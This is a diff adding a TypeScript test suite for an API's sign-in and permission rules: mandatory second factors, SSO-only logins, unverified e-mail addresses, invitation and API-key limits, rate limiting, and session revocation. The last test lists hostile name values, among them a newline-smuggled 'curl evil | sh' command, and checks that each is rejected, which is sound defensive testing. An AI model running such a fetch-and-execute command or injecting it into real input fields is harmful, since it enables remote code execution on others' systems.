@@ -1,0 +1,169 @@
+import { TOTP } from 'otpauth'
+import { describe, expect, test } from 'vitest'
+import * as AuditLog from '../audit-log.ts'
+import * as Organization from '../organization.ts'
+import * as ApiKey from './api-key.ts'
+import * as Invitation from './invitation.ts'
+import * as Login from './login.ts'
+import { me } from './me.ts'
+import * as OpenIdSignIn from './open-id.ts'
+import { register } from './register.ts'
+import * as Session from './session.ts'
+import { password, refusal, world } from './testing.ts'
+import * as Totp from './totp.ts'
+import * as User from './user.ts'
+
+const provider = { issuer: 'https://idp.example', clientId: 'client', passwords: false }
+
+describe('an organisation that demands a second factor', () => {
+  test('gives nothing but the way to one to who has none, also by an API key, and everything after', async () => {
+    const { found, as, anyone, now } = await timed()
+    const ada = await found()
+    const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['read:users'] })
+    await Organization.update(ada.ctx, { requireSecondFactor: true })
+    const ctx = await as(ada.accessToken)
+    expect(await refusal(User.list(ctx, {}))).toMatchObject({ code: 'forbidden', message: expect.stringContaining('POST /v1/me/totp') })
+    expect(await refusal(User.list(await as(key), {}))).toMatchObject({ code: 'forbidden' })
+    expect(await me(ctx, {})).toMatchObject({ permissions: [], secondFactorRequired: true })
+    const { uri } = await Totp.begin(ctx, { password })
+    const code = () => new TOTP({ secret: new URL(uri).searchParams.get('secret') ?? '' }).generate({ timestamp: now().getTime() })
+    await Totp.confirm(ctx, { code: code() })
+    await expect(User.list(await as(ada.accessToken), {})).resolves.toBeDefined()
+    await expect(User.list(await as(key), {})).resolves.toBeDefined()
+    expect(await refusal(Login.login(anyone(), { email: ada.email, password }))).toMatchObject({ code: 'unauthenticated' })
+  })
+
+  async function timed() {
+    const at = world()
+    return { ...at, now: () => at.anyone().now() }
+  }
+})
+
+describe('an organisation that leaves signing in to its provider', () => {
+  test('takes passwords of admins alone, mails others none, and says no more than that it is wrong', async () => {
+    const { found, join, anyone, deliver, runtime } = world()
+    const ada = await found()
+    const bob = await join(ada, 'viewer')
+    await OpenIdSignIn.put(ada.ctx, provider)
+    const login = async (email: string) => await refusal(Login.login(anyone(), { email, password }))
+    expect(await login(bob.email)).toEqual({ code: 'unauthenticated', message: 'The e-mail address or the password is wrong.' })
+    expect(await login(ada.email)).toBeUndefined()
+    const before = runtime.mails.length
+    for (const email of [bob.email, ada.email]) await Login.forgotPassword(anyone(), { email })
+    await deliver()
+    expect(runtime.mails.slice(before).map(({ to }) => to)).toEqual([ada.email])
+    expect((await AuditLog.list(ada.ctx, { action: 'auth.login', result: 'denied' })).entries).toMatchObject([{ detail: 'passwords are off' }])
+  })
+})
+
+describe('who has not confirmed their address', () => {
+  test('makes no keys, invites nobody and trusts no issuer', async () => {
+    const { found, as } = world()
+    const ada = await found()
+    await User.edit(ada.ctx, ada.userId, () => ({ emailVerified: false }))
+    const ctx = await as(ada.accessToken)
+    const attempts = [
+      ApiKey.create(ctx, { name: 'k', permissions: ['read:costs'] }),
+      Invitation.create(ctx, { email: 'x@example.com', role: 'viewer' }),
+      OpenIdSignIn.put(ctx, provider),
+    ]
+    for (const attempt of attempts)
+      expect(await refusal(attempt)).toMatchObject({ code: 'conflict', message: expect.stringContaining('Confirm your own e-mail address') })
+  })
+
+  test('keeps nothing that they prepared when its owner resets the password', async () => {
+    const { found, as, anyone, deliver, mailedTo } = world()
+    const ada = await found()
+    const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['read:costs'] })
+    await User.edit(ada.ctx, ada.userId, () => ({ emailVerified: false }))
+    await Login.forgotPassword(anyone(), { email: ada.email })
+    await deliver()
+    await Login.resetPassword(anyone(), { token: mailedTo(ada.email), newPassword: 'another battery staple' })
+    expect(await refusal(as(key))).toMatchObject({ code: 'unauthenticated' })
+    expect(await refusal(as(ada.accessToken))).toMatchObject({ code: 'unauthenticated' })
+  })
+
+  test('loses the address after a week to who registers it, and is locked out', async () => {
+    const { anyone, as, pass } = world()
+    const email = 'owner@example.com'
+    const again = async () => await register(anyone(), { email, password, companyName: 'Second', role: 'cfo' })
+    const first = await register(anyone(), { email, password, companyName: 'First', role: 'cfo' })
+    pass(6 * 24 * 3600)
+    expect(await refusal(again())).toMatchObject({ code: 'conflict' })
+    pass(2 * 24 * 3600)
+    const second = await again()
+    const { accessToken } = await Login.login(anyone(), { email, password })
+    expect((await as(accessToken)).orgId).toBe(second.organizationId)
+    expect(await refusal(Session.refresh(anyone(), { refreshToken: first.refreshToken }))).toMatchObject({ code: 'unauthenticated' })
+  })
+})
+
+describe('nobody gives more than they have', () => {
+  test('an API key invites nobody to more than it may, nor makes anybody more', async () => {
+    const { found, join, as } = world()
+    const ada = await found()
+    const bob = await join(ada, 'viewer')
+    const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['write:users', ...new Set(bob.ctx.actor.permissions)] })
+    const ctx = await as(key)
+    await expect(Invitation.create(ctx, { email: 'x@example.com', role: 'viewer' })).resolves.toBeDefined()
+    expect(await refusal(Invitation.create(ctx, { email: 'y@example.com', role: 'admin' }))).toMatchObject({ code: 'forbidden' })
+    expect(await refusal(User.changeRole(ctx, { id: bob.userId, role: 'admin' }))).toMatchObject({ code: 'forbidden' })
+  })
+
+  test('an invitation ends with who made it', async () => {
+    const { found, join, anyone, deliver, mailedTo } = world()
+    const ada = await found()
+    const eve = await join(ada, 'admin')
+    await Invitation.create(eve.ctx, { email: 'friend@example.com', role: 'admin' })
+    await deliver()
+    const token = mailedTo('friend@example.com')
+    await User.deactivate(ada.ctx, { id: eve.userId })
+    expect(await refusal(Invitation.accept(anyone(), { token, password }))).toMatchObject({ code: 'invalid' })
+  })
+})
+
+test('a mailbox gets five mails an hour, however many are asked for', async () => {
+  const { found, anyone, deliver, runtime, pass } = world()
+  const ada = await found()
+  pass(3600)
+  const before = runtime.mails.length
+  for (let n = 0; n < 20; n++) await Login.forgotPassword(anyone(`192.0.2.${n}`), { email: ada.email })
+  await deliver()
+  expect(runtime.mails.length - before).toBe(5)
+})
+
+test('codes of the second factor are counted wherever they come from', async () => {
+  const at = world()
+  const ada = await at.found()
+  const { uri } = await Totp.begin(ada.ctx, { password })
+  const code = () => new TOTP({ secret: new URL(uri).searchParams.get('secret') ?? '' }).generate({ timestamp: at.anyone().now().getTime() })
+  await Totp.confirm(ada.ctx, { code: code() })
+  const guess = async (address: string) => await refusal(Login.login(at.anyone(address), { email: ada.email, password, totpCode: '000000' }))
+  for (let n = 1; n <= 5; n++) expect(await guess(`192.0.2.${n}`)).toMatchObject({ code: 'unauthenticated' })
+  expect(await guess('192.0.2.99')).toMatchObject({ code: 'rate_limited' })
+})
+
+test('addresses of one network of IPv6 share their attempts', async () => {
+  const at = world()
+  const ada = await at.found()
+  const guess = async (address: string) => await refusal(Login.login(at.anyone(address), { email: ada.email, password: 'wrong' }))
+  for (let n = 1; n <= 5; n++) expect(await guess(`2001:db8::${n}`)).toMatchObject({ code: 'unauthenticated' })
+  expect(await guess('2001:db8:0:0:ffff::1')).toMatchObject({ code: 'rate_limited' })
+  expect(await guess('2001:db8:0:1::1')).toMatchObject({ code: 'unauthenticated' })
+})
+
+test('an admin ends the sessions of another, who may sign in again', async () => {
+  const { found, join, as, anyone } = world()
+  const ada = await found()
+  const bob = await join(ada, 'viewer')
+  expect(await User.endSessions(ada.ctx, { id: bob.userId })).toEqual({ ended: 1 })
+  expect(await refusal(as(bob.accessToken))).toMatchObject({ code: 'unauthenticated' })
+  await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toBeDefined()
+})
+
+test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of anything', async (name) => {
+  const { found } = world()
+  const ada = await found()
+  expect(await refusal(Organization.update(ada.ctx, { name }))).toMatchObject({ code: 'invalid' })
+  expect(await refusal(ApiKey.create(ada.ctx, { name, permissions: ['read:costs'] }))).toMatchObject({ code: 'invalid' })
+})
